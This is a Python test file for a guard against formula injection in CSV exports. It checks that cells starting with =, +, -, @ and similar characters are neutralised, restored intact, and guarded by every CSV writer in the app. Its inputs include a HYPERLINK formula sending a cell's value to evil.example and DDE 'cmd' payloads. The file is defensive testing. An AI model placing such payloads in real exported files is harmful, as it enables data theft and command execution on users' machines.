"""Formulas in cells: no spreadsheet runs them, and what was guarded comes back as it was."""

import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.core.formulas import MAY_BE_GUARDED, guarded, guarded_row, restored

APP = Path(__file__).parents[2] / "app"
cells = st.text(st.sampled_from("=+-@'\t\r;,a1 \uff1d"), max_size=8) | st.text(max_size=8)


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/?"&A1;"klik")',
        "@SUM(1)",
        "+62812",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1",
        "\r=1",
        "\uff1d1+1",
        "'=1",
        "nama;=cmd|' /C calc'!A0",
    ],
)
def test_a_formula_becomes_text(cell):
    shown = guarded(cell)

    assert shown != cell
    for part in shown.split(";"):
        assert part[:1] not in set("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
    assert restored(shown) == cell


@pytest.mark.parametrize(
    "cell", ["", "Budi", "D'Arc", "-12.5", "-12,5", "a=b", "1-2", "S-1/Sarjana", "a;b", "'kutip'"]
)
def test_what_is_no_formula_is_left_alone(cell):
    assert guarded(cell) == restored(cell) == cell


@given(cells)
def test_what_was_guarded_comes_back(cell):
    assert restored(guarded(cell)) == cell


@given(cells)
def test_nothing_guarded_begins_a_formula(cell):
    shown = guarded(cell)

    assert shown == cell or MAY_BE_GUARDED.search(shown)
    assert not re.match(r"[=@\t\r]|[+-](?![0-9]+([.,][0-9]+)?$)", shown)


def test_numbers_of_a_row_stay_numbers():
    assert guarded_row([1, -2.5, None, "=x"]) == [1, -2.5, None, "'=x"]


def test_whoever_writes_csv_guards_it():
    writers = {
        str(path.relative_to(APP))
        for path in APP.rglob("*.py")
        if re.search(r"csv\.(Dict)?[Ww]riter\(|format=\"csv\"", path.read_text(encoding="utf-8"))
    }
    guarding = {
        name for name in writers if "app.core.formulas" in (APP / name).read_text(encoding="utf-8")
    }

    assert writers - guarding <= {"demo/sheets.py"}  # files of ours that are imported again
    assert guarding
